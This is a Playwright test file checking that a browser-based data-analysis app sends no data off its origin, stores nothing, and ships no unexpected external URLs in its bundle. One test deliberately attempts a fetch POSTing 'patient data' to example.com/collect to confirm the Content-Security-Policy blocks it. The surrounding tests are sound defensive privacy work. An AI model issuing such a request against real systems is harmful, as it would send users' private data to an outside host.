import { test, expect } from './support';

test('a full run makes only same-origin GET requests and stores nothing', async ({ app, page, guard }) => {
  await app.open();
  await app.loadSample('wdbc');
  await app.train();
  await app.uploadFile('cohort.csv', 'age,sex,y\n50,F,yes\n60,M,no\n55,F,no\n70,M,yes\n65,F,yes\n45,M,no\n52,F,no\n68,M,yes\n59,F,no\n61,M,yes\n');
  await app.expectLoaded(10, 3);
  await app.train();
  // the guard fixture fails the test on any off-origin, non-GET or body-carrying request; check it saw traffic at all
  expect(guard.requests.some((r) => r.url.includes('/samples/wdbc.csv'))).toBe(true);
  expect(guard.requests.some((r) => /engine\.worker/.test(r.url))).toBe(true);
  const storage = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    cookies: document.cookie,
    databases: (await indexedDB.databases()).length,
    caches: 'caches' in window ? (await caches.keys()).length : 0,
  }));
  expect(storage).toEqual({ local: 0, session: 0, cookies: '', databases: 0, caches: 0 });
});

test('the Content-Security-Policy forbids connections off the origin', async ({ app, page, guard }) => {
  await app.open();
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("default-src 'none'");
  expect(csp).toContain("connect-src 'self'");
  expect(csp).not.toContain('unsafe-eval');
  const blocked = await page.evaluate(async () => {
    try {
      await fetch('http://example.com/collect', { method: 'POST', body: 'patient data' });
      return false;
    } catch {
      return true;
    }
  });
  expect(blocked).toBe(true);
  // the browser reported the blocked attempt; that report is the expected outcome here, not a failure
  expect(guard.cspViolations.length).toBeGreaterThan(0);
  guard.cspViolations.length = 0;
  expect(guard.requests.filter((r) => r.url.includes('example.com'))).toEqual([]);
});

/**
 * Every absolute http(s) URL in the built files, with why it is harmless. A new one fails this test
 * until someone reads the code that holds it: the CSP would block a call anyway, but the bundle
 * should not even contain an address the app could call.
 */
const KNOWN_URLS: [RegExp, string][] = [
  [/^http:\/\/www\.w3\.org\/(1999\/xlink|2000\/svg|XML\/1998\/namespace|1998\/Math\/MathML|1999\/xhtml)$/, 'XML namespace identifiers (React DOM, Recharts SVG): never fetched'],
  [/^https:\/\/react\.dev\/errors\/$/, "React's minified-error message text"],
  [/^https:\/\/redux(-toolkit)?\.js\.org\/Errors\?code=(\$\{e\})?$/, "Redux's error message text (Recharts' state)"],
  [/^https:\/\/react\.i18next\.com\/latest\/usetranslation-hook$/, "react-i18next's developer warning text"],
  [/^https?:\/\/json-schema\.org\/draft(-0[47]|\/2020-12)\/schema#?$/, "zod's JSON-schema identifiers (never fetched)"],
  [/^http:\/\/\[\$\{e\}\]$/, "zod's IPv6 check parses `new URL('http://[' + text + ']')`: a parse, not a request"],
  [/^https:\/\/github\.com\/mholt\/PapaParse$/, "PapaParse's licence comment"],
  [/^https:\/\/bit\.ly\/3cXEKWf$/, "Immer's minified-error message text (Recharts' state)"],
];

test('the built bundle holds no address the app could call', async () => {
  const { readdirSync, readFileSync } = await import('node:fs');
  const files = readdirSync('dist/assets').filter((f) => f.endsWith('.js') || f.endsWith('.css'));
  files.push('../index.html');
  const unknown: string[] = [];
  for (const f of files) {
    const text = readFileSync(`dist/assets/${f}`, 'utf8');
    for (const m of text.matchAll(/https?:\/\/[^\s"'`)<>\\]+/g)) {
      const url = m[0].replace(/[.,;]+$/, '');
      if (!KNOWN_URLS.some(([re]) => re.test(url))) unknown.push(`${f}: ${url}`);
    }
  }
  expect(unknown).toEqual([]);
});
